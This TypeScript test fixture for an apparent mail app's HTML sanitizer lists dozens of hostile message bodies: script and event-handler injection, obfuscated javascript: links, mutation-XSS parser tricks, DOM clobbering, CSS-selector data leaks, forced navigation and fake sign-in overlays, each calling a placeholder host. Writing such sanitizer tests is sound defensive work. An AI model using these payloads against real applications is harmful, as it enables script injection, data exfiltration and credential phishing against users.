// Bodies that try to run code, load resources, navigate, or impersonate the app. FAR is the URL of a host that must
// never get a request. Each key names what the body tries.

const closing = `\\3c /style>\\3c img src=FAR/escaped>\\3c h1>x\\3c /h1>\\3c input autofocus>\\3c a href=FAR/link>https://bank.example\\3c /a>\\3c style>`;

export const attacks: Readonly<Record<string, string>> = {
  // run code
  "a script": `<script>fetch('FAR/script')</script>`,
  "a script from afar": `<script src="FAR/src.js"></script>`,
  "a module": `<script type="module">import 'FAR/module.js'</script>`,
  "an image that fails": `<img src="x" onerror="new Image().src='FAR/onerror'">`,
  "an image that loads": `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="fetch('FAR/onload')">`,
  "handlers everywhere": `<body onload="fetch('FAR/body')" onpageshow="fetch('FAR/show')"><div onmouseover="fetch('FAR/over')" onclick="fetch('FAR/click')" onanimationstart="fetch('FAR/anim')" style="animation:a 1ms">x</div><style>@keyframes a{}</style><details open ontoggle="fetch('FAR/toggle')"><summary>s</summary>d</details>`,
  "a handler behind a slash": `<svg/onload=fetch('FAR/svgload')>`,
  "marquee and friends": `<marquee onstart="fetch('FAR/marquee')">x</marquee><input autofocus onfocus="fetch('FAR/focus')"><select autofocus onfocus="fetch('FAR/select')">`,
  "a link that is a script": `<a id="l" href="javascript:fetch('FAR/js')">click</a>`,
  "a script link in disguise": `<a id="l" href="jav&#x09;ascript:fetch('FAR/tab')">click</a><a href="&#1;javascript:fetch('FAR/control')">click</a><a href=" java\nscript:fetch('FAR/newline')">click</a>`,
  "a link that carries a page": `<a id="l" href="data:text/html,<script>fetch('FAR/datapage')</script>">click</a>`,
  "vbscript and blob": `<a id="l" href="vbscript:msgbox(1)">click</a><a href="blob:FAR/x">b</a><a href="view-source:FAR/vs">v</a><a href="filesystem:FAR/fs">f</a>`,
  // parser differentials
  noscript: `<noscript><p title="</noscript><img src=FAR/noscript onerror=fetch('FAR/noscript2')>"></noscript>`,
  "math and style": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=FAR/mglyph onerror=fetch('FAR/mglyph2')&gt;">`,
  "svg and style": `<svg><style><img src="FAR/svgstyle" onerror="fetch('FAR/svgstyle2')"></style></svg>`,
  xmp: `<xmp><p title="</xmp><img src='FAR/xmp' onerror=fetch('FAR/xmp2')>"></xmp>`,
  select: `<select><style></select><img src="FAR/select2" onerror="fetch('FAR/select3')"></style></select>`,
  template: `<template><img src="FAR/template"></template><template><style></template><img src="FAR/template2" onerror="fetch('FAR/template3')">`,
  comments: `<!--><img src="FAR/comment" onerror="fetch('FAR/comment2')">--><!--!><img src=FAR/comment3>--><![CDATA[><img src="FAR/cdata">]]>`,
  "a nested form": `<form><math><mtext></form><form><mglyph><style></math><img src="FAR/nested" onerror="fetch('FAR/nested2')">`,
  "a style that closes itself": `<style>/*</style><img src="FAR/stylebreak">*/</style><style><//**/style><img src="FAR/join" onerror="fetch('FAR/join2')"></style>`,
  "a sheet that closes itself with an escape": `<style>@media all{b{font-family:"${closing}"}u{quotes:"${closing}" "x"}i[title="${closing}"]{top:1px}}.\\3c /style>\\3c img{top:1px}</style><b>before</b>`,
  plaintext: `<p>before</p><plaintext><img src="FAR/plaintext">`,
  "an annotation": `<math><annotation-xml encoding="text/html"><style><img src="FAR/annotation" onerror="fetch('FAR/annotation2')"></style></annotation-xml></math>`,
  // DOM clobbering
  "names of ours": `<img name="body"><form id="documentElement"><input name="style"></form><a id="showMail"></a><img name="querySelectorAll"><form name="getElementById"></form><a id="contentDocument" name="defaultView">x</a>`,
  prototypes: `<div id="__proto__"></div><img name="constructor"><input name="attributes"><input name="childNodes"><form><input name="parentNode"><input name="removeAttribute"></form>`,
  // forms
  "a form": `<form action="FAR/form" method="post"><input name="q" value="x"><input id="t" type="submit"><button id="b" formaction="FAR/formaction">go</button></form>`,
  "a picture that sends": `<form action="FAR/formpicture"><input id="t" type="image" src="FAR/inputimage"></form>`,
  "a form of another document": `<form id="f" action="FAR/linked"></form><button form="f" id="b">go</button><input type="text" list="d"><isindex action="FAR/isindex">`,
  // navigate
  "a refresh": `<meta http-equiv="refresh" content="0;url=FAR/refresh"><meta http-equiv="refresh" content="0;url=javascript:fetch('FAR/refresh2')">`,
  "another base": `<base href="FAR/base/" target="_top"><img src="viabase.png"><a id="l" href="relative">go</a>`,
  "a link to the top": `<a id="l" target="_top" href="javascript:top.location='FAR/top'">top</a><a target="_parent" href="about:blank">parent</a>`,
  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="FAR/ownpolicy">`,
  "another window's name": `<a id="l" target="mail" href="#x">named</a><iframe name="top" src="FAR/named"></iframe>`,
  // load resources
  "a picture": `<img src="FAR/img">`,
  "pictures for every screen": `<img srcset="FAR/srcset 1x, FAR/srcset2 2x" sizes="100vw"><picture><source srcset="FAR/source" type="image/png"><source media="all" srcset="FAR/source2"><img src="FAR/pictureimg"></picture>`,
  "old attributes": `<body background="FAR/bodybg"><table background="FAR/tablebg"><tr background="FAR/trbg"><td background="FAR/tdbg">x</table><img lowsrc="FAR/lowsrc" dynsrc="FAR/dynsrc"><img longdesc="FAR/longdesc" usemap="FAR/map"><blockquote cite="FAR/cite"></blockquote><head profile="FAR/profile">`,
  "styles on things": `<div style="background:url(FAR/bg)">x</div><div style="background-image:url('FAR/bg2');list-style:url(FAR/list);cursor:url(FAR/cursor),auto;border-image:url(FAR/border) 1;mask:url(FAR/mask);clip-path:url(FAR/clip#a);filter:url(FAR/filter#a);content:url(FAR/content);shape-outside:url(FAR/shape)">y</div>`,
  "styles in disguise": `<div style="background:u\\72l(FAR/escaped)">x</div><div style="background:URL( FAR/upper )">x</div><div style="background:url(/**/FAR/comment)">x</div><div style="background:url(&quot;FAR/entity&quot;)">x</div><div style='background:\\75\\72\\6c("FAR/hex")'>x</div><div style="background:ur/**/l(FAR/split)">x</div>`,
  "a sheet": `<style>@import "FAR/import1";@import url(FAR/import2);@import url("FAR/import3") screen;body{background:url(FAR/sheet)}p::before{content:url(FAR/before)}p::after{content:image-set("FAR/imageset" 1x)}li::marker{content:url(FAR/marker)}</style><p>a</p><ul><li>b</ul>`,
  "a sheet in disguise": `<style>@\\69mport "FAR/escimport";@import/**/"FAR/comimport";@media all{@import "FAR/inmedia";p{background:url(FAR/inmedia2)}}@supports (display:block){p{background:url(FAR/supports)}}@layer x{p{background:url(FAR/layer)}}@namespace url(FAR/ns);@font-face{font-family:x;src:url(FAR/font)}p{font-family:x;background:-webkit-image-set(url(FAR/wis) 1x);background:cross-fade(url(FAR/cf),url(FAR/cf2),50%)}@counter-style c{symbols:url(FAR/cs)}@property --p{syntax:'<url>';inherits:false;initial-value:url(FAR/prop)}</style><p>a</p>`,
  "a sheet from afar": `<link rel="stylesheet" href="FAR/sheet.css"><link rel="alternate stylesheet" href="FAR/alt.css"><style>:root{--u:url(FAR/var)}div{background:var(--u)}</style><div>q</div>`,
  "looking ahead": `<link rel="prefetch" href="FAR/prefetch"><link rel="preload" as="image" href="FAR/preload"><link rel="modulepreload" href="FAR/modulepreload"><link rel="dns-prefetch" href="FAR"><link rel="preconnect" href="FAR"><link rel="icon" href="FAR/icon"><link rel="manifest" href="FAR/manifest"><link rel="prerender" href="FAR/prerender"><script type="speculationrules">{"prefetch":[{"urls":["FAR/speculation"]}]}</script>`,
  "what a letter says of a sheet": `<style>a[href^="s"]{background:url(FAR/s)}a[href*="secret"]{background:url(FAR/secret)}input[value^=a]{background:url(FAR/input)}html:has(a){background:url(FAR/has)}</style><a href="secret">x</a><input value="abc">`,
  drawings: `<svg width="9" height="9"><image href="FAR/image"/><image xlink:href="FAR/xlink"/><use href="FAR/use#a"/><script href="FAR/svgscript"></script><foreignObject><img src="FAR/foreign"></foreignObject><animate attributeName="href" values="FAR/animate"/><filter id="f"><feImage href="FAR/fe"/></filter><rect filter="url(#f)" fill="url(FAR/fill#a)" width="9" height="9"/><a href="javascript:fetch('FAR/svga')"><text y="9">x</text></a><set attributeName="onmouseover" to="fetch('FAR/set')"/></svg>`,
  "sound and film": `<video src="FAR/video" poster="FAR/poster" autoplay muted><source src="FAR/vsource"><track src="FAR/track" default></video><audio src="FAR/audio" autoplay></audio><bgsound src="FAR/bgsound">`,
  "pages in pages": `<iframe src="FAR/iframe"></iframe><iframe srcdoc="<img src='FAR/srcdoc'><script>parent.location='FAR/parent'</script>"></iframe><object data="FAR/object"><embed src="FAR/embed"></object><frameset><frame src="FAR/frame"></frameset><portal src="FAR/portal"></portal><fencedframe></fencedframe><applet code="FAR/applet"></applet>`,
  "a shadow": `<div><template shadowrootmode="open"><img src="FAR/shadow"><slot></slot></template>x</div><div><template shadowroot="open"><img src="FAR/shadow2"></template></div>`,
  "a ping": `<a id="p" ping="FAR/ping" href="#x">x</a><a id="l" attributionsrc="FAR/attribution" href="#y">y</a><img attributionsrc="FAR/attribution2" src="">`,
  "pictures that are pages": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='FAR/svgdata'/><script>fetch('FAR/svgdata2')</script></svg>"><img src="data:text/html,<script>fetch('FAR/htmldata')</script>"><object data="data:text/html,<img src=FAR/objdata>"></object>`,
  "ways to the same place": `<img src="//HOST/slashes"><img src="\\\\HOST\\backslashes"><img src="http:HOST/noslash"><img src="ht&#x0A;tp://HOST/newline"><img src="&#x20;FAR/space"><img SRC=FAR/unquoted><img src='FAR/quote"x'><img/src="FAR/slash"><image src="FAR/imagetag"><img src="http://user:pass@HOST/cred">`,
  "our own endpoints": `<img src="/rpc/closeConversation"><img src="/attachments/../rpc/x"><a id="l" href="/settings">x</a><form action="/rpc/closeConversation" method="post"><button id="b">go</button></form><link rel="stylesheet" href="/docs.css"><img src="/remote-images?u=FAR&s=forged">`,
  // impersonate the app
  "over everything": `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a id="l" href="FAR/overlay">Sign in again</a></div>`,
  "dialogs and popovers": `<dialog open style="position:fixed;inset:0"><form method="dialog"><button id="b">Sign in</button></form></dialog><div popover id="pop">x</div><button id="t" popovertarget="pop">open</button><div style="position:absolute;top:-999px">x</div>`,
  "things to type into": `<div contenteditable autofocus tabindex="0">Password:</div><textarea autofocus>x</textarea><keygen name="k"><input type="password" autofocus>`,
  // exhaust resources
  "lost ends": `${"<div><b>".repeat(5000)}<img src="FAR/deep">`,
  "a wide one": `<table width="9000"><tr><td style="width:9000px;background:url(FAR/wide)">x</td></tr></table>`,
  "an endless one": `<div style="height:100vh;min-height:200vh">x</div><div style="height:9999999px;background:url(FAR/long)">y</div>`,
};
